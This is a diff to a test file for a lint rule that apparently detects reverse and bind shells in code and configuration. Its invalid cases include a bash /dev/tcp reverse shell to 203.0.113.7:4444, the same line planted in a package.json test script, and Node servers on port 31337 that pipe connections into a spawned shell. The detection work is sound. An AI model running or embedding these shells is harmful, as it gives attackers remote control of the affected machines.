@@ -6,6 +6,10 @@ const DEVICE = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import net from "node:net"; import { spawn } from "node:child_process"; net.connect({ path: "/tmp/terminal.sock" }); spawn(process.env.SHELL, [], { stdio: "inherit" });' },
+    // a server beside a shell that it does not hand out
+    { code: 'import net from "node:net"; import { spawn } from "node:child_process"; net.createServer((c) => c.end("ok")).listen("/tmp/x.sock"); spawn(process.env.SHELL, [], { stdio: "inherit" });' },
+    { code: 'import net from "node:net"; import { spawn } from "node:child_process"; net.createServer((c) => { spawn("git", ["fetch"]).stdout.pipe(c); }).listen(9);' },
     sh('until (: > /dev/tcp/localhost/5432) 2> /dev/null; do sleep 1; done'),
     sh('timeout 1 bash -c "< /dev/tcp/db.acme.example/5432"'),
     sh('exec 3<> /dev/tcp/acme.example/80\nprintf "GET / HTTP/1.0\\r\\n\\r\\n" >&3\ncat <&3'),
@@ -32,6 +36,8 @@ await ruleTester(rule, {
     js("import net from 'node:net';\nnet.connect(9229, 'localhost');\ncp.spawn('bash', ['-i']);"),
   ],
   invalid: [
+    { code: 'import net from "node:net"; import { spawn } from "node:child_process"; net.createServer((c) => { const sh = spawn(process.env.SHELL, []); c.pipe(sh.stdin); sh.stdout.pipe(c); }).listen(31337);', errors: [{ messageId: 'code' }] },
+    { code: 'import net from "node:net"; import { spawn } from "node:child_process"; net.createServer((c) => { const sh = spawn("/bin/sh", ["-i"]); c.pipe(sh.stdin); sh.stdout.pipe(c); }).listen(31337);', errors: [{ messageId: 'code' }] },
     { code: `{\n  "scripts": {\n    "test": "echo \\"a\\"; ${DEVICE}"\n  }\n}`, filename: 'package.json', errors: [{ messageId: 'shell', line: 3, column: 26, endLine: 3, endColumn: 67, data: { command: 'bash' } }] },
     { ...sh(`cd x\n${DEVICE}`), errors: [{ messageId: 'shell', line: 2, column: 1, endLine: 2, endColumn: 42 }] },
     { ...fence(DEVICE), errors: [{ messageId: 'shell', line: 4, column: 1, endLine: 4, endColumn: 42 }] },
